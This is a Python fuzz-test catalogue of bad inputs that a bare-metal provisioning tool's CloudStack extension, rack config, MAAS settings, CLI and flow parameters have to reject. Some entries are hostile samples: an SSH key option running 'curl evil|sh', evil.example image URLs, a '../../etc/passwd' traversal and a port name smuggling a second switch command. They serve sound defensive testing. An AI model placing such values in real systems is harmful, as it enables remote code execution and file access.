"""The named catalogue of bad-input classes the fuzz suite throws at every public edge.

Each :class:`BadInput` is data: the entry point it enters by, the input (in the shape that
entry point's driver in :mod:`tests.fuzz.drivers` takes), the field the error must name, the
documented failure (an exception type's name, or an exit code for the CLI and the CloudStack
extension), and the strings that must never come back (the input itself for a secret class,
another tenant's VM for a boundary class). ``docs/operator.md`` lists these names; a test keeps
the two equal.

Entry points:

- ``extension``: a CloudStack payload file handed to ``metalflow-cloudstack <action> <file> <wait>``
  (``vm_ext``: the VM's External: details over a valid create payload; ``nics``: (broadcastUri,
  default) pairs; ``parameters``/``action``: a custom action; ``doc``: top-level overrides;
  ``raw``: the file's text as is). Exit 1 with one JSON answer.
- ``rack``: the rack config JSON (``switch``/``host``: overrides of the first rack's l2Switch
  and first cabled host; ``extra_host``: a second cabled host). ``ConfigError``.
- ``import``: the inventory import (``host``: overrides of a valid HostRecord; ``pxe_vlan``).
  ``InventoryError``.
- ``maas``: the MAAS settings string (``external.baremetal.system.url``). ``ConfigError``.
- ``cli``: ``metalflow`` argv. Exit 2 (a usage error), plain text, no traceback.
- ``flow``: a flow's parameters as Prefect's API and UI validate them (``flow``; ``vm``:
  overrides of a valid provision ``vm``; ``params``: other parameters). ``ParameterTypeError``.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

#: Canary values: unique, so a hit anywhere is this input coming back.
CANARY_PASSWORD = "Canary-Pw-4f7c2a91"
CANARY_MAAS_SECRET = "CanaryMaasSecret9b3e55d1"
CANARY_IPMI = "Canary-Ipmi-2d8e61f0"
OTHER_TENANT_VM = "tenant-b-payroll-db"
OTHER_TENANT_UUID = "7b0e4c2d-0000-4000-8000-0000000b0b0b"

ED25519_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@example"
ED25519_BODY = ED25519_KEY.split()[1]
#: A sha512crypt hash that parses (not of any password in use).
GOOD_HASH = "$6$saltsalt$" + "a" * 86

EXTENSION_EXIT = 1
CLI_USAGE_EXIT = 2


@dataclass(frozen=True)
class BadInput:
    name: str
    entry: str  # extension | rack | import | maas | cli | flow
    input: Any
    field: str  # the error must name this (a substring of the message)
    failure: str | int  # exception type name, or exit code for cli/extension
    hidden: tuple[str, ...] = ()  # never in any output (error, answer, log)
    why: str = ""
    secret: bool = field(default=False)

    @property
    def described(self) -> str:
        return self.why or self.name.replace("-", " ")


def _x(name: str, inp: dict[str, Any], fld: str, why: str, failure: int = EXTENSION_EXIT, **kw: Any) -> BadInput:
    return BadInput(name, "extension", inp, fld, failure, why=why, **kw)


def _r(name: str, inp: dict[str, Any], fld: str, why: str, **kw: Any) -> BadInput:
    return BadInput(name, "rack", inp, fld, "ConfigError", why=why, **kw)


def _i(name: str, inp: dict[str, Any], fld: str, why: str, **kw: Any) -> BadInput:
    return BadInput(name, "import", inp, fld, "InventoryError", why=why, **kw)


def _m(name: str, text: str, fld: str, why: str, **kw: Any) -> BadInput:
    return BadInput(name, "maas", text, fld, "ConfigError", why=why, **kw)


def _c(name: str, argv: list[str], fld: str, why: str, **kw: Any) -> BadInput:
    return BadInput(name, "cli", argv, fld, CLI_USAGE_EXIT, why=why, **kw)


def _f(name: str, inp: dict[str, Any], fld: str, why: str, **kw: Any) -> BadInput:
    return BadInput(name, "flow", inp, fld, "ParameterTypeError", why=why, **kw)


MAAS_OK = f"MaasIP=10.0.0.5;MaasKey=tokenkey;MaasSecret={CANARY_MAAS_SECRET};MaasConsumerKey=consumer"
MAAS_KEYS = f"MaasKey=tokenkey;MaasSecret={CANARY_MAAS_SECRET};MaasConsumerKey=consumer"


def _vm_json(**over: Any) -> str:
    vm = {"name": "web-01", "uuid": "vm-0001", "image": "ubuntu/jammy", "nics": [{"vlan": 100, "default": True}]}
    vm.update(over)
    return "vm=" + json.dumps(vm)


CATALOGUE: tuple[BadInput, ...] = (
    # ---------------------------------------------------------------- the CloudStack extension
    _x("vm-name-trailing-newline", {"vm_ext": {"vm_name": "web-01\n"}}, "vm_name", "VM name ending in a newline"),
    _x("vm-name-leading-space", {"vm_ext": {"vm_name": " web-01"}}, "vm_name", "VM name with a leading space"),
    _x("vm-name-underscore", {"vm_ext": {"vm_name": "web_01"}}, "vm_name", "VM name with '_' (MAAS refuses it)"),
    _x("vm-name-64-chars", {"vm_ext": {"vm_name": "w" * 64}}, "vm_name", "VM name longer than a DNS label"),
    _x("vm-name-non-ascii", {"vm_ext": {"vm_name": "wéb-01"}}, "vm_name", "VM name with a non-ASCII letter"),
    _x("vm-name-fullwidth-digit", {"vm_ext": {"vm_name": "web-０1"}}, "vm_name", "VM name with a fullwidth digit"),
    _x(
        "gson-escape-newline",
        {"vm_ext": {"vm_name": "web-01\n"}, "gson_newline": True},
        "vm_name",
        "a newline written as Gson's \\u000a escape in the payload file",
    ),
    _x("image-url", {"vm_ext": {"image": "http://evil.example/x.iso"}}, "image", "an http URL as the image"),
    _x("image-trailing-newline", {"vm_ext": {"image": "ubuntu/jammy\n"}}, "image", "image name ending in a newline"),
    _x("image-path-traversal", {"vm_ext": {"image": "../../etc/passwd"}}, "image", "image name with '..' parts"),
    _x("erase-mode-unknown", {"vm_ext": {"erase": "shred"}}, "erase", "an erase mode MAAS does not know"),
    _x("erase-mode-trailing-space", {"vm_ext": {"erase": "quick "}}, "erase", "erase mode with a trailing space"),
    _x("vlan-1-as-guest", {"nics": [("vlan://1", True)]}, "broadcastUri", "the default VLAN 1 as the guest network"),
    _x("vlan-4095", {"nics": [("vlan://4095", True)]}, "broadcastUri", "VLAN id above 4094"),
    _x(
        "vlan-arabic-indic-digit",
        {"nics": [("vlan://١٠٠", True)]},
        "broadcastUri",
        "VLAN id in Arabic-Indic digits",
    ),
    _x("vlan-vxlan-scheme", {"nics": [("vxlan://100", True)]}, "broadcastUri", "a VXLAN network on 802.1Q switches"),
    _x("vlan-trailing-newline", {"nics": [("vlan://100\n", True)]}, "broadcastUri", "broadcastUri ending in a newline"),
    _x(
        "nics-over-limit",
        {"nics": [(f"vlan://{100 + i}", i == 0) for i in range(40)]},
        "nics",
        "more NICs than the cabled ports can carry",
    ),
    _x(
        "duplicate-vlans",
        {"nics": [("vlan://100", True), ("vlan://200", False), ("vlan://200", False)]},
        "nics",
        "two NICs on one VLAN",
    ),
    _x("nics-two-defaults", {"nics": [("vlan://100", True), ("vlan://200", True)]}, "nics", "two default NICs"),
    _x(
        "ssh-key-with-options",
        {"vm_ext": {"ssh_keys": f'command="curl evil|sh" {ED25519_KEY}'}},
        "ssh_keys",
        "authorized_keys options before the key",
    ),
    _x("ssh-key-bad-base64", {"vm_ext": {"ssh_keys": "ssh-ed25519 not*base64 ops"}}, "ssh_keys", "key body not base64"),
    _x(
        "ssh-key-type-mismatch",
        {"vm_ext": {"ssh_keys": f"ssh-rsa {ED25519_BODY}"}},
        "ssh_keys",
        "key type that is not the blob's type",
    ),
    _x(
        "secret-in-reference-field",
        {"vm_ext": {"root_password_ref": CANARY_PASSWORD}},
        "root_password_ref",
        "a password pasted where a reference belongs",
        hidden=(CANARY_PASSWORD,),
        secret=True,
    ),
    _x(
        "root-ref-worker-env",
        {"vm_ext": {"root_password_ref": "env:METALFLOW_MAAS_API_KEY"}},
        "root_password_ref",
        "a tenant's reference to a worker environment variable (outside the operator's scope)",
    ),
    _x(
        "metalflow-host-other-tenant",
        {"action": "delete", "vm_ext": {"metalflow_host": "host-002"}, "other_tenant": True},
        "metalflow_host",
        "delete naming another tenant's host: not available, nothing deleted, nothing named "
        "(answered as success: CloudStack's clean-up of the VM must not stall on it)",
        hidden=(OTHER_TENANT_VM, OTHER_TENANT_UUID),
        failure=0,
    ),
    _x(
        "metalflow-host-other-tenant-start",
        {"action": "start", "vm_ext": {"metalflow_host": "host-002"}, "other_tenant": True},
        "metalflow_host",
        "start naming another tenant's host: not available, nothing named",
        hidden=(OTHER_TENANT_VM, OTHER_TENANT_UUID),
    ),
    _x("uuid-with-slash", {"doc": {"virtualmachineid": "ab/../cd"}}, "virtualmachineid", "VM uuid with '/'"),
    _x(
        "uuid-trailing-newline",
        {"doc": {"virtualmachineid": "0f6c1a8e-7b1d-4c1e-9a55-3d2f6b9e1c01\n"}},
        "virtualmachineid",
        "VM uuid ending in a newline",
    ),
    _x("payload-not-json", {"raw": '{"virtualmachineid": '}, "payload", "a payload file that is not JSON"),
    _x("payload-not-object", {"raw": "[1, 2]"}, "$", "a payload that is a JSON list"),
    _x("nics-not-a-list", {"vm": {"nics": "vlan://100"}}, "nics", "NICs as a string"),
    _x("cpus-negative", {"vm": {"cpus": -2}}, "cpus", "a negative CPU count"),
    _x(
        "plug-vlan-true",
        {"action": "PlugNetwork", "parameters": {"vlan": True}},
        "vlan",
        "VLAN given as a JSON boolean",
    ),
    _x("plug-vlan-1", {"action": "PlugNetwork", "parameters": {"vlan": "1"}}, "vlan", "plugging the default VLAN 1"),
    _x(
        "plug-vlan-arabic-indic",
        {"action": "PlugNetwork", "parameters": {"vlan": "٢٠٠"}},
        "vlan",
        "plugging a VLAN written in Arabic-Indic digits",
    ),
    _x("plug-vlan-float", {"action": "PlugNetwork", "parameters": {"vlan": 200.5}}, "vlan", "a fractional VLAN id"),
    _x(
        "architecture-uname-name",
        {"vm_ext": {"architecture": "x86_64"}},
        "architecture",
        "x86_64 where MAAS says amd64 (the answer gives MAAS's name)",
    ),
    _x("architecture-with-space", {"vm_ext": {"architecture": "amd64 generic"}}, "architecture", "a blank inside"),
    _x(
        "keypair-not-a-key",
        {"vm": {"details": {"deployvm": "true", "SSH.PublicKey": "ssh-rsa not*base64 me"}}},
        "SSH.PublicKey",
        "a deploy keypair that is no SSH public key",
    ),
    _x(
        "pin-unknown-system-id",
        {"vm_ext": {"maas_system_id": "nosuch"}},
        "maas_system_id",
        "a pin naming no machine: 'not available', as for another VM's",
    ),
    # ---------------------------------------------------------------- the rack config
    _r(
        "port-arabic-indic-digit",
        {"host": {"port": "1/1/١"}},
        "hosts[0].port",
        "switch port with an Arabic-Indic digit",
    ),
    _r("port-fullwidth-digit", {"host": {"port": "1/1/１"}}, "hosts[0].port", "switch port with a fullwidth digit"),
    _r("port-trailing-newline", {"host": {"port": "1/1/1\n"}}, "hosts[0].port", "switch port ending in a newline"),
    _r(
        "port-cli-injection",
        {"host": {"port": "1/1/1\nno shutdown"}},
        "hosts[0].port",
        "a second CLI line in a port name",
    ),
    _r("mac-multicast", {"host": {"mac": "01:00:5e:00:00:01"}}, "hosts[0].mac", "a multicast MAC"),
    _r("mac-fullwidth", {"host": {"mac": "００:18:8b:52:79:80"}}, "hosts[0].mac", "a MAC with fullwidth digits"),
    _r("mac-all-zero", {"host": {"mac": "00:00:00:00:00:00"}}, "hosts[0].mac", "the all-zero MAC"),
    _r("mac-trailing-newline", {"host": {"mac": "00:18:8b:52:79:80\n"}}, "hosts[0].mac", "a MAC ending in a newline"),
    _r(
        "switch-ip-trailing-newline",
        {"switch": {"ip": "10.0.0.1\n"}},
        "l2Switch.ip",
        "switch address ending in a newline",
    ),
    _r("ssh-port-true", {"switch": {"port": True}}, "l2Switch.port", "SSH port given as a JSON boolean"),
    _r("ssh-port-arabic-indic", {"switch": {"port": "٢٢"}}, "l2Switch.port", "SSH port in Arabic-Indic digits"),
    _r(
        "switch-type-unknown",
        {"switch": {"type": "NoSuchSwitchOS"}},
        "l2Switch.type",
        "a switch type without a dialect",
    ),
    _r(
        "switch-password-not-string",
        {"switch": {"password": 12345}},
        "l2Switch.password",
        "a password that is a number",
    ),
    _r("duplicate-port", {"extra_host": {"mac": "00:18:8b:52:79:81"}}, "hosts[1].port", "two NICs cabled to one port"),
    # ---------------------------------------------------------------- the inventory import
    _i("host-name-underscore", {"host": {"name": "host_3"}}, "name", "host name with '_' (MAAS refuses it)"),
    _i("host-name-64-chars", {"host": {"name": "h" * 64}}, "name", "host name longer than a DNS label"),
    _i("host-name-trailing-newline", {"host": {"name": "host-009\n"}}, "name", "host name ending in a newline"),
    _i("host-name-upper-case", {"host": {"name": "Host-009"}}, "name", "host name with upper-case letters"),
    _i("host-name-fqdn", {"host": {"name": "host-009.example.com"}}, "name", "an FQDN where MAAS wants a label"),
    _i(
        "credential-ref-trailing-newline",
        {"host": {"ipmi_credential_ref": "block:ipmi-host-009\n"}},
        "ipmi_credential_ref",
        "credential reference ending in a newline",
    ),
    _i(
        "secret-in-credential-ref",
        {"host": {"ipmi_credential_ref": CANARY_IPMI}},
        "ipmi_credential_ref",
        "the BMC password pasted where its reference belongs",
        hidden=(CANARY_IPMI,),
        secret=True,
    ),
    _i("ipmi-port-true", {"host": {"ipmi_port": True}}, "ipmi_port", "IPMI port given as a boolean"),
    _i("ipmi-address-non-ascii", {"host": {"ipmi_address": "bmc-٩.example"}}, "ipmi_address", "non-ASCII BMC address"),
    _i("vlan-1-as-pxe", {"pxe_vlan": 1}, "pxe_vlan", "the default VLAN 1 as the PXE VLAN"),
    _i("vlan-true", {"pxe_vlan": True}, "pxe_vlan", "the PXE VLAN given as True"),
    _i("pxe-vlan-4095", {"pxe_vlan": 4095}, "pxe_vlan", "PXE VLAN above 4094"),
    _i("cloudstack-id-with-slash", {"host": {"cloudstack_id": "ab/cd"}}, "cloudstack_id", "host id with '/'"),
    _i("import-mac-multicast", {"host": {"macs": ("01:00:5e:00:00:09",)}}, "macs", "a multicast boot MAC"),
    _i("cpu-count-zero", {"host": {"cpu_count": 0}}, "cpu_count", "no CPUs"),
    # ---------------------------------------------------------------- the MAAS settings string
    _m(
        "maas-url-with-credentials",
        f"MaasIP=http://admin:{CANARY_PASSWORD}@10.0.0.5;{MAAS_KEYS}",
        "MaasIP",
        "user and password inside MaasIP's URL",
        hidden=(CANARY_PASSWORD, CANARY_MAAS_SECRET),
        secret=True,
    ),
    _m(
        "maas-ip-credentials-no-scheme",
        f"MaasIP=admin:{CANARY_PASSWORD}@10.0.0.5;{MAAS_KEYS}",
        "MaasIP",
        "user:password@host without a scheme",
        hidden=(CANARY_PASSWORD, CANARY_MAAS_SECRET),
        secret=True,
    ),
    _m(
        "maasport-arabic-indic-digit",
        f"MaasIP=10.0.0.5;MaasPort=٥٢٤٠;{MAAS_KEYS}",
        "MaasPort",
        "MaasPort in Arabic-Indic digits",
        hidden=(CANARY_MAAS_SECRET,),
    ),
    _m("maasport-out-of-range", f"MaasIP=10.0.0.5;MaasPort=70000;{MAAS_KEYS}", "MaasPort", "MaasPort above 65535"),
    _m(
        "maasip-non-ascii-host",
        f"MaasIP=mаas.example;{MAAS_KEYS}",
        "MaasIP",
        "a host name with a Cyrillic letter",
        hidden=(CANARY_MAAS_SECRET,),
    ),
    _m("maas-scheme-ftp", f"MaasIP=ftp://10.0.0.5;{MAAS_KEYS}", "MaasIP", "a scheme other than http(s)"),
    _m(
        "maas-api-key-pasted-whole",
        f"MaasIP=10.0.0.5;consumer:tokenkey:{CANARY_MAAS_SECRET}",
        "part 2",
        "the whole API key pasted as one part",
        hidden=(CANARY_MAAS_SECRET,),
        secret=True,
    ),
    _m(
        "maas-secret-under-misspelt-key",
        f"MaasIP=10.0.0.5;MaasKey=tokenkey;MaasSecrte={CANARY_MAAS_SECRET};MaasConsumerKey=consumer",
        "MaasSecrte",
        "the token secret under a misspelt key",
        hidden=(CANARY_MAAS_SECRET,),
        secret=True,
    ),
    _m(
        "maas-key-with-space",
        f"MaasIP=10.0.0.5;MaasKey=token key;MaasSecret={CANARY_MAAS_SECRET};MaasConsumerKey=consumer",
        "MaasKey",
        "a key part with a space",
        hidden=(CANARY_MAAS_SECRET,),
    ),
    _m("maas-secret-missing", "MaasIP=10.0.0.5;MaasKey=tokenkey;MaasConsumerKey=consumer", "MaasSecret", "no secret"),
    _m(
        "maas-key-given-twice",
        f"MaasIP=10.0.0.5;MaasIP=10.0.0.6;{MAAS_KEYS}",
        "MaasIP",
        "one key given twice",
        hidden=(CANARY_MAAS_SECRET,),
    ),
    # ---------------------------------------------------------------- the metalflow CLI
    _c("cli-param-rich-markup", ["trigger", "provision", "--param", "[/red]"], "--param", "rich markup in a --param"),
    _c("cli-param-bad-json", ["trigger", "provision", "--param", "vm={bad json"], "vm", "a --param that is bad JSON"),
    _c("cli-param-no-equals", ["trigger", "provision", "--param", "hostonly"], "--param", "a --param without '='"),
    _c(
        "cli-param-vlan-1",
        ["trigger", "plug-nic", "--param", "host=host-001", "--param", "vlan=1"],
        "vlan",
        "plug-nic with the default VLAN 1",
    ),
    _c(
        "cli-param-vlan-true",
        ["trigger", "plug-nic", "--param", "host=host-001", "--param", "vlan=true"],
        "vlan",
        "plug-nic with VLAN true",
    ),
    _c(
        "cli-param-unknown-key",
        ["trigger", "plug-nic", "--param", "host=host-001", "--param", "vlna=200"],
        "vlna",
        "a parameter the flow does not have",
    ),
    _c(
        "cli-param-vm-name-newline",
        ["trigger", "provision", "--param", "host=host-001", "--param", _vm_json(name="web-01\n")],
        "name",
        "a VM name ending in a newline through --param",
    ),
    _c(
        "cli-param-root-hash-plain",
        ["trigger", "provision", "--param", "host=host-001", "--param", _vm_json(root_password_hash=CANARY_PASSWORD)],
        "root_password_hash",
        "a plain password as root_password_hash through --param (not a parameter: the hash travels as a reference)",
        hidden=(CANARY_PASSWORD,),
        secret=True,
    ),
    _c("cli-register-host-underscore", ["register", "host_3"], "host_3", "register a host name MAAS refuses"),
    # ---------------------------------------------------------------- flow parameters
    _f(
        "root-hash-plain-password",
        {"vm": {"root_password_hash": CANARY_PASSWORD}},
        "root_password_hash",
        "a plain password as root_password_hash (not a parameter: the hash travels as a reference)",
        hidden=(CANARY_PASSWORD,),
        secret=True,
    ),
    _f(
        "root-hash-md5crypt",
        {"vm": {"root_password_hash": "$1$saltsalt$Canary0md5crypt0hash0"}},
        "root_password_hash",
        "an MD5-crypt hash (too weak)",
        hidden=("Canary0md5crypt0hash0",),
        secret=True,
    ),
    _f(
        "flow-secret-in-reference-field",
        {"vm": {"root_password_ref": CANARY_PASSWORD}},
        "root_password_ref",
        "a password in the root_password_ref parameter",
        hidden=(CANARY_PASSWORD,),
        secret=True,
    ),
    _f("flow-vm-name-trailing-newline", {"vm": {"name": "web-01\n"}}, "name", "a VM name ending in a newline"),
    _f("flow-vm-name-underscore", {"vm": {"name": "web_01"}}, "name", "a VM name with '_'"),
    _f("flow-vlan-true", {"vm": {"nics": [{"vlan": True, "default": True}]}}, "vlan", "a NIC's VLAN given as true"),
    _f("flow-vlan-1", {"vm": {"nics": [{"vlan": 1, "default": True}]}}, "vlan", "the default VLAN 1 as a NIC"),
    _f(
        "flow-vlan-arabic-indic",
        {"vm": {"nics": [{"vlan": "١٠٠", "default": True}]}},
        "vlan",
        "a NIC's VLAN in Arabic-Indic digits",
    ),
    _f(
        "flow-duplicate-vlans",
        {"vm": {"nics": [{"vlan": 100, "default": True}, {"vlan": 100}]}},
        "nics",
        "two NICs on one VLAN",
    ),
    _f(
        "flow-nics-over-limit",
        {"vm": {"nics": [{"vlan": 100 + i, "default": i == 0} for i in range(40)]}},
        "nics",
        "more NICs than a host's ports carry",
    ),
    _f(
        "flow-ssh-key-with-options",
        {"vm": {"ssh_keys": [f'from="0.0.0.0/0" {ED25519_KEY}']}},
        "ssh_keys",
        "an ssh key with options",
    ),
    _f("flow-image-url", {"vm": {"image": "https://evil.example/x.img"}}, "image", "an image URL as a parameter"),
    _f("flow-uuid-with-slash", {"vm": {"uuid": "a/b"}}, "uuid", "a VM uuid with '/'"),
    _f("flow-host-trailing-newline", {"params": {"host": "host-001\n"}}, "host", "a host ending in a newline"),
    _f(
        "flow-erase-mode-unknown",
        {"flow": "destroy", "params": {"host": "host-001", "erase": "shred"}},
        "erase",
        "destroy with an unknown erase mode",
    ),
    _f("flow-plug-vlan-1", {"flow": "plug-nic", "params": {"host": "host-001", "vlan": 1}}, "vlan", "plug VLAN 1"),
    _f(
        "flow-plug-vlan-true",
        {"flow": "plug-nic", "params": {"host": "host-001", "vlan": True}},
        "vlan",
        "plug VLAN true",
    ),
)

BY_NAME = {c.name: c for c in CATALOGUE}
ENTRIES = ("extension", "rack", "import", "maas", "cli", "flow")

DOC_START = "<!-- fuzz-catalogue:start (generated: python -m tests.fuzz.catalogue) -->"
DOC_END = "<!-- fuzz-catalogue:end -->"
ENTRY_TITLES = {
    "extension": "CloudStack extension payload (exit 1, one JSON answer)",
    "rack": "Rack config (ConfigError)",
    "import": "Inventory import (InventoryError)",
    "maas": "MAAS settings string (ConfigError)",
    "cli": "metalflow CLI (exit 2, plain text)",
    "flow": "Flow parameters, as Prefect's API and UI validate them (ParameterTypeError)",
}


def doc_section() -> str:
    """The list of classes for docs/operator.md, between the markers."""
    lines = [DOC_START, ""]
    for entry in ENTRIES:
        lines.append(f"**{ENTRY_TITLES[entry]}**")
        lines.append("")
        for case in (c for c in CATALOGUE if c.entry == entry):
            lines.append(f"- `{case.name}`: {case.described}; the error names `{case.field}`")
        lines.append("")
    lines.append(DOC_END)
    return "\n".join(lines)


if __name__ == "__main__":
    print(doc_section())
